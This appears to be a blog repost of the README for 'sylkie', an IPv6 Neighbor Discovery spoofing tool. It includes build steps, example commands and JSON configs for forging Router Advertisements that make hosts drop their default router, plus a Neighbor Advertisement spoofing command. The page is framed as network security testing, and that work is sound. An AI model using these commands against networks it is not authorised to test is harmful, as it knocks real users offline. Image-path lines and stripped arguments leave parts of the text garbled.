sylkie – IPv6 address spoofing with the Neighbor Discovery Protocol

A command line tool and library for testing networks for common address spoofing security vulnerabilities in IPv6 networks using the Neighbor Discovery Protocol.

Getting Started

Note: This project is still in the early phases of development. If you run into any problems, please consider submitting an issue. It currently only runs on Linux.


libseccomp (Optional, but highly recommended)

json-c (Optional, but recommended)See The Wiki for more details.Build
Get the code and compile it!

# Get the codegit clone ./sylkie# Compile the codemkdir -p ./buildcd ./buildcmake -DCMAKE_BUILD_TYPE=Release ..makemake install

Basic usage
The following describes the basic usage of sylkie. Run sylkie -h or sylkie -h for more details.DoS (Router Advert)
The basic usage of the sylkie router advert command is listed below. This command will send a Router Advertisement message to the given ip or the all nodes multicast addres causing the targeted nodes to remove / from their list of default routes.

sylkie ra -interface \ –target-mac \ –router-ip \ –prefix \ –timeout \ –repeat

Router Advert Examples
A basic example.

sylkie ra -i ens3 \ –target-mac 52:54:00:e3:f4:06 \ –router-ip fe80::b95b:ee1:cafe:9720 \ –prefix 64 \ –repeat -1 \ –timeout 10This would send a “forged” Router Advertisement to the link local scope all-nodes address ff02::1 causing all of the nodes to remove fe80::b95b:ee1:cafe:9720/64 (link-layer address 52:54:00:e3:f4:06) from their list of default routes.
That is quite a bit of info. To make life easier sylkie also accepts json, where the subcommand (ra, na) is a key whos value is an array of objects with the keys and values being the corresponding option and value. To run the command, pass the path to the json file as the argument to the -j option.
To run the above command from json, first create a file with the following.

{ “ra”: [ { “interface”: “ens3”, “target-mac”: “52:54:00:e3:f4:06”, “router-ip”: “fe80::b95b:ee1:cafe:9720”, “prefix”: 64, “repeat”: -1, “timeout”: 10 } ]}

After creating the file, start sending adverts with the following.

sylkie -j /path/to/json

This becomes especially useful if there is a set of advertisements that need to be configured and sent. For example, the following json config would send two router advertisements on the configured intervals.

{ “ra”: [ { “interface”: “ens3”, “target-mac”: “52:54:00:e3:f4:06”, “router-ip”: “fe80::b95b:ee1:cafe:9720”, “prefix”: 64, “repeat”: -1, “timeout”: 10 }, { “interface”: “ens3”, “target-mac”: “52:54:00:c2:a7:7c”, “router-ip”: “fe80::cbed:6822:cd23:bbdb”, “prefix”: 64, “repeat”: -1, “timeout”: 10 } ]}

How it works
The router advert (ra) command attempts to DoS a network by sending “forged” Router Advertisementmessages to either a targeted address (if one is provided) or the link local scope all-nodes address ff02::1. The “forged” Router Advertisement contains Prefix Information with the lifetimes set to 0. The message also contains the Source Link-Layer Address. This should cause the targeted address or all link local nodes to remove the targetted router from the list of default routes.Address spoofing (Neighbor Advert)sylkie na -i \ –dst-mac \ –src-ip \ –dst-ip \ –target-ip \ –target-mac \ –timeout \ –repeatDownload sylkie


Deixe um comentário

Preencha os seus dados abaixo ou clique em um ícone para log in:Logotipo do

Você está comentando utilizando sua conta Sair /  Alterar )

Foto do Google+

Você está comentando utilizando sua conta Google+. Sair /  Alterar )

Imagem do Twitter

Você está comentando utilizando sua conta Twitter. Sair /Alterar )

Foto do FacebookVocê está comentandoutilizando sua conta Facebook.Sair /  Alterar )


Conectando a %s